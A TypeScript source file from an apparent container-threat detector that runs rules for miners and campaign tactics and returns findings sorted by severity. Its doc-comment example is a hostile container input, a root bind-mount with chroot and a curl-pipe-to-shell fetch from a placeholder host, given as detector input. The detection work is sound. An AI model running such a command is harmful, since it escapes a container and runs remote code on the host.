// The one entry point of detection: detect(input) runs every rule over one analysis and returns Findings,
// one per rule that fired (evidence merged, the highest severity kept), most severe first.
import { atLeast, severityRank, type Finding, type Severity, type Evidence } from '../report/finding.js';
import { analyse } from './analyse.js';
import { DETECTION_RULE_MODULES } from './registry.js';
import type { Analysis, DetectionInput, DetectionRule } from './types.js';

export interface DetectOptions {
  /** Finding target; defaults to the input's name, id or image. */
  readonly target?: string;
  /** Only these rule ids. */
  readonly rules?: readonly string[];
  /** Drop findings below this severity (default: keep all). */
  readonly minSeverity?: Severity;
  /** Rules to run instead of the built-in list (tests, extensions). */
  readonly ruleModules?: readonly DetectionRule[];
}

export const MAX_EVIDENCE = 12;

/** Run the rules over an analysis already computed (the honeypot also reads its commands and indicators). */
export function detectAnalysed(a: Analysis, opts: DetectOptions = {}): Finding[] {
  const target = opts.target ?? a.input.name ?? a.input.id ?? a.input.image ?? 'input';
  const findings: Finding[] = [];
  for (const rule of opts.ruleModules ?? DETECTION_RULE_MODULES) {
    if (opts.rules && !opts.rules.includes(rule.id)) continue;
    const hits = rule.check(a);
    if (hits.length === 0) continue;
    let top = hits[0]!;
    for (const h of hits) if (severityRank(h.severity ?? rule.severity) > severityRank(top.severity ?? rule.severity)) top = h;
    const severity = top.severity ?? rule.severity;
    if (opts.minSeverity && !atLeast(severity, opts.minSeverity)) continue;
    const evidence: Evidence[] = [];
    const seen = new Set<string>();
    for (const h of [top, ...hits.filter((x) => x !== top)]) {
      for (const e of h.evidence) {
        const k = `${e.location}\0${e.value ?? ''}`;
        if (seen.has(k) || evidence.length >= MAX_EVIDENCE) continue;
        seen.add(k); evidence.push(e);
      }
    }
    const more = hits.length > 1 ? ` (+${hits.length - 1} more)` : '';
    findings.push({ ruleId: rule.id, severity, title: rule.title, target, message: `${top.message}${more}`, evidence,
      remediation: rule.remediation, attack: rule.attack });
  }
  return findings.sort((x, y) => severityRank(y.severity) - severityRank(x.severity) || x.ruleId.localeCompare(y.ruleId));
}

/**
 * Detect miners and campaign tactics in one container / exec / process sample / upload.
 * @example detect({ image: 'alpine', binds: ['/:/mnt'], cmd: ['chroot', '/mnt', 'sh', '-c', 'curl -s http://x.example.invalid/a | sh'] })
 */
export function detect(input: DetectionInput, opts: DetectOptions = {}): Finding[] {
  return detectAnalysed(analyse(input), opts);
}
